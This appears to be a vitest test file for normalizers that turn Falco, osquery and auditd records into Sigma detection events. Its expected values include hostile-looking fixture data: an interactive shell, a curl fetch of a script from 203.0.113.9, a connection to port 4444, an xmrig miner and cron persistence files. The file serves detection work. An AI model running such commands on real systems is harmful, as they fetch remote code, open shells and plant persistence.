import { readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import type { SigmaEvent } from "../detect-types";
import { decodeSaddr } from "./auditd-coalescer";
import { decodeAuditHex, parseAuditLine } from "./auditd-line-parser";
import { createAuditdNormalizer } from "./auditd-normalizer";
import { normalizeFalcoAlert } from "./falco-normalizer";
import type { NormalizeResult } from "./normalize-types";
import { normalizeOsqueryResult } from "./osquery-normalizer";

const lines = (name: string): string[] =>
  readFileSync(join(import.meta.dirname, "../testdata/events", name), "utf8")
    .split("\n")
    .filter((l) => l !== "");
const eventsOf = (r: NormalizeResult): readonly SigmaEvent[] => (r.ok ? r.events : []);

describe("falco normalizer", () => {
  const results = lines("falco-alerts.jsonl").map((l) => normalizeFalcoAlert(l));

  it("maps a process alert to process_creation with container context", () => {
    const [e] = eventsOf(results[0]!);
    expect(e!.logsource).toEqual({ product: "linux", category: "process_creation" });
    expect(e!.fields).toMatchObject({
      Image: "/usr/bin/bash",
      CommandLine: "bash -i",
      ProcessId: 4242,
      ParentProcessId: 4200,
      User: "root",
      LogonId: -1,
    });
    expect(e!.fields.ParentImage).toBeUndefined(); // <NA> is absent, not a value
    expect(e!.fields["proc.cmdline"]).toBe("bash -i"); // raw Falco names stay available
    expect(e!.context).toMatchObject({
      host: "node-a",
      containerId: "abc123",
      image: "docker.io/library/nginx",
      namespace: "prod",
      pod: "web-0",
    });
    expect(e!.provenance).toMatchObject({ Image: "proc.exepath", CommandLine: "proc.cmdline" });
    expect(e!.timestamp).toBe(Date.parse("2026-11-25T10:00:00.123Z"));
    expect(e!.raw).toContain("A shell was spawned");
  });

  it("maps file and network alerts", () => {
    expect(eventsOf(results[1]!)[0]).toMatchObject({
      logsource: { category: "file_event" },
      fields: { TargetFilename: "/etc/cron.d/job", Image: "/usr/bin/tee" },
    });
    expect(eventsOf(results[2]!)[0]).toMatchObject({
      logsource: { category: "network_connection" },
      fields: {
        DestinationIp: "203.0.113.9",
        DestinationPort: 4444,
        SourceIp: "10.0.0.2",
        SourcePort: 40000,
      },
    });
  });

  it("tags non-syscall sources by their source and rejects alerts without time", () => {
    expect(eventsOf(results[3]!)[0]!.logsource).toEqual({ product: "k8s_audit" });
    expect(results[4]).toEqual({ ok: false, reason: "falco alert without a valid 'time'" });
    expect(normalizeFalcoAlert("{not json")).toEqual({ ok: false, reason: "malformed JSON" });
    expect(normalizeFalcoAlert("[1]")).toEqual({ ok: false, reason: "event is not a JSON object" });
  });
});

describe("osquery normalizer", () => {
  const results = lines("osquery-results.jsonl").map((l) => normalizeOsqueryResult(l));

  it("maps process_events differential rows, keeping string numerics", () => {
    const [e] = eventsOf(results[0]!);
    expect(e).toMatchObject({
      logsource: { product: "linux", category: "process_creation" },
      fields: {
        Image: "/usr/bin/curl",
        CommandLine: "curl -sSL http://203.0.113.9/x.sh",
        ProcessId: "4321",
        ParentProcessId: "1",
        CurrentDirectory: "/tmp",
        action: "added",
      },
      timestamp: 1795600001000,
      context: { host: "web-1" },
    });
  });

  it("skips the initial counter-0 result by default", () => {
    expect(results[1]).toMatchObject({ ok: true, events: [] });
    expect(
      eventsOf(
        normalizeOsqueryResult(lines("osquery-results.jsonl")[1]!, { skipInitialAdds: false }),
      ),
    ).toHaveLength(1);
  });

  it("maps socket_events and file_events by their columns", () => {
    expect(eventsOf(results[2]!)[0]).toMatchObject({
      logsource: { category: "network_connection" },
      fields: { DestinationIp: "203.0.113.9", DestinationPort: "4444" },
    });
    expect(eventsOf(results[3]!)[0]).toMatchObject({
      logsource: { category: "file_event" },
      fields: { TargetFilename: "/etc/cron.d/job" },
    });
  });

  it("expands snapshot and batch formats, skipping removed rows", () => {
    expect(eventsOf(results[4]!).map((e) => e.fields.Image)).toEqual([
      "/sbin/init",
      "/usr/bin/xmrig",
    ]);
    expect(eventsOf(results[5]!).map((e) => e.fields.action)).toEqual(["added"]);
    expect(results[6]).toMatchObject({ ok: false });
  });

  it("honours an explicit query → table map", () => {
    const line = JSON.stringify({
      name: "q",
      unixTime: 1,
      counter: 1,
      action: "added",
      columns: { path: "/x", pid: "1" },
    });
    expect(
      eventsOf(normalizeOsqueryResult(line, { tables: { q: "process_events" } }))[0]!.logsource
        .category,
    ).toBe("process_creation");
  });
});

describe("auditd", () => {
  it("decodes hex-encoded strings and SOCKADDR", () => {
    expect(decodeAuditHex("62617368002D63006563686F")).toBe("bash -c echo");
    expect(decodeSaddr("020001BB5DB8D8220000000000000000")).toEqual({
      ip: "93.184.216.34",
      port: 443,
    });
    expect(decodeSaddr("0A0001BB00000000200104F8000000000000000000000001")).toEqual({
      ip: "2001:4f8::1",
      port: 443,
    });
  });

  it("parses a record with enriched fields and nested msg", () => {
    const [sys] = lines("auditd-sample.log");
    const r = parseAuditLine(sys!)!;
    expect(r).toMatchObject({ type: "SYSCALL", serial: "100", timestamp: 1700000000123 });
    expect(r.fields).toMatchObject({ exe: "/usr/bin/bash", a0: "55d0", key: "exec" }); // SYSCALL a0 stays hex
    expect(r.enriched).toMatchObject({ SYSCALL: "execve", UID: "root", AUID: "alice" });
    const login = parseAuditLine(lines("auditd-sample.log")[14]!)!;
    expect(login.fields).toMatchObject({
      op: "login",
      acct: "alice",
      exe: "/usr/sbin/sshd",
      res: "failed",
    });
    expect(parseAuditLine("garbage")).toBeUndefined();
  });

  it("emits per-record events for service: auditd rules", () => {
    const n = createAuditdNormalizer({ view: "records" });
    const events = lines("auditd-sample.log").flatMap((l) => eventsOf(n.push(l)));
    expect(events).toHaveLength(12); // 16 lines − 3 EOE − 1 garbage
    expect(events[1]).toMatchObject({
      logsource: { product: "linux", service: "auditd" },
      fields: { type: "EXECVE", a0: "bash", a2: "echo hello world" },
    });
  });

  it("coalesces records per event, out of order, into Sigma categories", () => {
    const n = createAuditdNormalizer({ view: "coalesced" });
    const results = lines("auditd-sample.log").map((l) => n.push(l));
    expect(results[15]).toEqual({
      ok: false,
      reason: "not an auditd record (type=… msg=audit(…))",
    });
    const events = [...results.flatMap(eventsOf), ...n.flush()];
    expect(events.map((e) => e.logsource.category)).toEqual([
      "process_creation",
      "network_connection",
      "file_event",
    ]);
    expect(events[0]!.fields).toMatchObject({
      Image: "/usr/bin/bash",
      CommandLine: "bash -c echo hello world",
      ProcessId: "1234",
      ParentProcessId: "1000",
      User: "root",
      CurrentDirectory: "/root",
    });
    expect(events[1]).toMatchObject({
      fields: { DestinationIp: "93.184.216.34", DestinationPort: "443", Image: "/usr/bin/curl" },
      context: { host: "web-1" },
    });
    expect(events[2]!.fields).toMatchObject({
      TargetFilename: "/etc/cron.d/evil",
      Image: "/usr/bin/dash",
    });
  });

  it("bounds events waiting for EOE", () => {
    const n = createAuditdNormalizer({ view: "coalesced", maxPending: 2 });
    for (let s = 0; s < 5; s++)
      n.push(`type=SYSCALL msg=audit(1.000:${s}): arch=c000003e syscall=59 exe="/bin/x" pid=1`);
    expect(n.stats.evictedPending).toBe(3);
    expect(n.flush()).toHaveLength(2);
  });
});
